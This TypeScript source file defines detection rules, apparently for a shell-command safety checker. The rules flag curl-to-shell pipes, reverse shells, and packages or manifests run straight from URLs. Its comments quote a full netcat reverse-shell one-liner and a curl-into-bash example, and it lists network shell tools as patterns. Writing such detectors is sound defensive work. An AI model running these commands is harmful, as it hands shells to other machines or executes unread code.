// Contract: rules about code from the network that is run unread, and about shells given to the network. PURE.
import { readOptions } from '../shell/options.ts';
import type { Effective, Hit, Rule, Word } from '../types.ts';
import { head, rule, type Check } from './kit.ts';
import { listed } from './options.ts';
import { writesOf } from './writes.ts';

const PACK = 'remote-exec';

export const SHELLS = 'sh bash dash zsh ksh ash mksh fish tcsh csh pwsh powershell cmd';
export const RUNNERS = `${SHELLS} source . eval python python2 python3 pypy3 node nodejs deno bun perl ruby php lua Rscript osascript tclsh iex invoke-expression exec env xargs ssh make psh php8 groovy awk gawk sqlite3 psql mysql`;
const FETCHERS = 'curl wget fetch http https httpie xh aria2c lwp-request lynx links w3m elinks GET invoke-webrequest invoke-restmethod iwr irm start-bitstransfer ftp tftp axel wget2 curlie hurl nc ncat netcat socat';

/** A command that prints what it fetched, itself or through others. `curl --version` and `nc -z` fetch nothing. */
export function fetches(effective: Effective): boolean {
  const { program, args, pipedFrom } = effective;
  if (listed(FETCHERS, program)) return !args.some(({ text }) => text === '--version' || text === '-V' || text === '--help');
  if (program === 'ssh' || program === 'git' || program === 'gsutil' || program === 'aws' || program === 'gh') return printsRemote(program, args);
  if (args.some(({ text }) => /(?:webclient|downloadstring|invoke-webrequest|\biwr\b|\birm\b)/iu.test(text))) return true;
  return pipedFrom.some(fetches);
}

function printsRemote(program: string, args: readonly Word[]): boolean {
  const texts = args.map(({ text }) => text);
  if (program === 'aws') return texts[0] === 's3' && texts[1] === 'cp' && texts.includes('-');
  if (program === 'gsutil') return texts[0] === 'cat';
  if (program === 'gh') return texts[0] === 'api' && !texts.some((text) => text.includes('graphql')) ? texts.some((text) => text.includes('/contents/')) : texts[0] === 'gist' && texts[1] === 'view';
  return program === 'git' && texts[0] === 'archive' && texts.some((text) => text.startsWith('--remote'));
}

/** `make`, `xargs`, `psql` and the like run code too, but what they fetch is mostly data: only where the engine says it is code. */
const fetchedCode: Check = (effective) => (effective.codeFrom.some(fetches) ? {} : undefined);

/** `curl URL | sudo -u x bash`: also where the shell reads its standard input without the engine having named it. */
function readsCode({ program, args, chain }: Effective): boolean {
  if (!listed(SHELLS, program)) return false;
  if (chain.includes('xargs')) return false;
  return args.every(({ text }) => text[0] === '-' && !text.includes('c') || text === '-' || text === '/dev/stdin');
}

const pipedCode: Check = (effective) => {
  if (effective.codeFrom.some(fetches)) return undefined;
  return readsCode(effective) && effective.pipedFrom.some(fetches) ? {} : undefined;
};

// ---- shells for the network ----

const isSocket = (text: string): boolean => text.startsWith('/dev/tcp/') || text.startsWith('/dev/udp/');

const reverseShell: Check = (effective) => {
  const { program, command, args } = effective;
  const socket = command.redirects.find(({ target }) => isSocket(target.text))?.target;
  if (socket !== undefined && (listed(SHELLS, program) || program === 'exec' || args.some(({ text }) => text === '-i'))) return { at: socket };
  switch (program) {
    case 'nc': case 'ncat': case 'netcat': return netcat(effective);
    case 'socat': {
      const at = args.find(({ text }) => /(?:^|,|:)\s*(?:exec|system):/iu.test(text));
      return at === undefined ? undefined : { at };
    }
    case 'telnet': case 'openssl': return effective.pipedFrom.some(({ program: from }) => listed(SHELLS, from)) ? {} : undefined;
    default: return undefined;
  }
};

function netcat(effective: Effective): Hit | undefined {
  const read = readOptions(effective.args, { valued: 'ecpwsiqIOTXx', longs: 'exec= sh-exec= lua-exec= listen keep-open', exact: true });
  const at = read.options.find(({ name, value }) => listed('--exec --sh-exec --lua-exec', name) || (name === '-e' && value !== undefined) || (name === '-c' && effective.program !== 'nc' && value !== undefined) || (name === '-c' && value?.includes('sh') === true));
  if (at !== undefined) return { at: at.word };
  return effective.pipedFrom.some(({ program }) => listed(SHELLS, program)) ? {} : undefined;
}

/** A shell whose output goes into a socket by a pipe: `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`. */
const shellInput: Check = (effective) => {
  if (!listed(SHELLS, effective.program) || !effective.pipedFrom.some(({ program }) => listed('nc ncat netcat socat telnet', program))) return undefined;
  return {};
};

// ---- packages that are code from anywhere ----

const isRemotePackage = (text: string): boolean => /^(?:https?|git|git\+https?|git\+ssh|ssh|github|gitlab|bitbucket|gist):/iu.test(text) || text.startsWith('git@') || /^[\w.-]+\/[\w.-]+(?:#.*)?$/u.test(text) && !text.startsWith('@') && !text.startsWith('.');

const runsPackage: Check = (effective) => {
  const { program, args } = effective;
  const operands = readOptions(args, { valued: 'pc', longs: 'package= call= from= with= spec= registry=', exact: true });
  const named = operands.options.find(({ name, value }) => listed('-p --package --from --spec', name) && value !== undefined && /:\/\/|^git@|^github:/u.test(value));
  if (named !== undefined) return { at: named.word };
  const verbs: Readonly<Record<string, string>> = { npm: 'exec x', pnpm: 'dlx', yarn: 'dlx', bun: 'x', deno: 'run install', uv: 'tool run', pipx: 'run' };
  const verb = Object.prototype.hasOwnProperty.call(verbs, program) ? verbs[program] : undefined;
  const words = operands.operands;
  if (verb !== undefined && !listed(verb, words[0]?.text ?? '')) return undefined;
  const what = words[verb === undefined ? 0 : 1];
  return what !== undefined && isRemotePackage(what.text) ? { at: what } : undefined;
};

const installsUrl: Check = ({ args }) => {
  const operands = args.filter(({ text }) => text[0] !== '-');
  if (!operands.some(({ text }) => text === 'install' || text === 'add' || text === 'i')) return undefined;
  const at = operands.find(({ text }) => /^(?:https?|git\+\w+|git):/u.test(text));
  return at === undefined ? undefined : { at };
};

/** `chmod +x` of what the line itself downloads comes before running it; the engine knows the file. */
const downloadedProgram: Check = (effective) => {
  if (!effective.path.startsWith('./') && !effective.path.startsWith('/tmp/') && !effective.path.startsWith('~')) return undefined;
  return effective.codeFrom.some((one) => fetches(one) || writesOf(one).some(({ how }) => how === 'copy' && fetches(one))) ? {} : undefined;
};

const UNREAD = 'This runs code from the network that nobody has read. Download it to a file, read it, and let the person decide.';

export const REMOTE_RULES: readonly Rule[] = [
  rule(PACK, head('remote.pipe', 'curl or wget into a shell or an interpreter, by pipe, substitution or file', UNREAD), RUNNERS, (effective, place) => fetchedCode(effective, place) ?? pipedCode(effective, place) ?? downloadedProgram(effective, place)),
  rule(PACK, head('remote.reverse-shell', 'a shell on /dev/tcp, nc -e, socat exec', 'This gives a shell to another machine. There is no safe form of it.'), `${SHELLS} exec nc ncat netcat socat telnet openssl`, (effective, place) => reverseShell(effective, place) ?? shellInput(effective, place), 'redirects'),
  rule(PACK, head('remote.package', 'npx, dlx, uvx of a URL or git repository', 'This runs a package from an address that no registry vouches for. A person must confirm it.', 'ask', 'contested'), 'npx bunx pnpx uvx npm pnpm yarn bun deno uv pipx', runsPackage),
  rule(PACK, head('remote.install', 'pip or npm install from a URL', 'This installs a package from an address that no registry vouches for. Ask the person.', 'off', 'contested'), 'pip pip3 npm pnpm yarn uv gem cargo', installsUrl),
  rule(PACK, head('remote.apply', 'kubectl apply -f URL', 'This applies a manifest from the network unread. Download and read it first.', 'off', 'contested'), 'kubectl oc', ({ args }) => {
    const read = readOptions(args, { valued: 'fnkl', longs: 'filename= namespace= context=', exact: true });
    const from = read.options.find(({ name, value }) => (name === '-f' || name === '--filename') && value?.includes('://') === true);
    return from !== undefined && listed('apply create replace', read.operands[0]?.text ?? '') ? { at: from.word } : undefined;
  }),
];
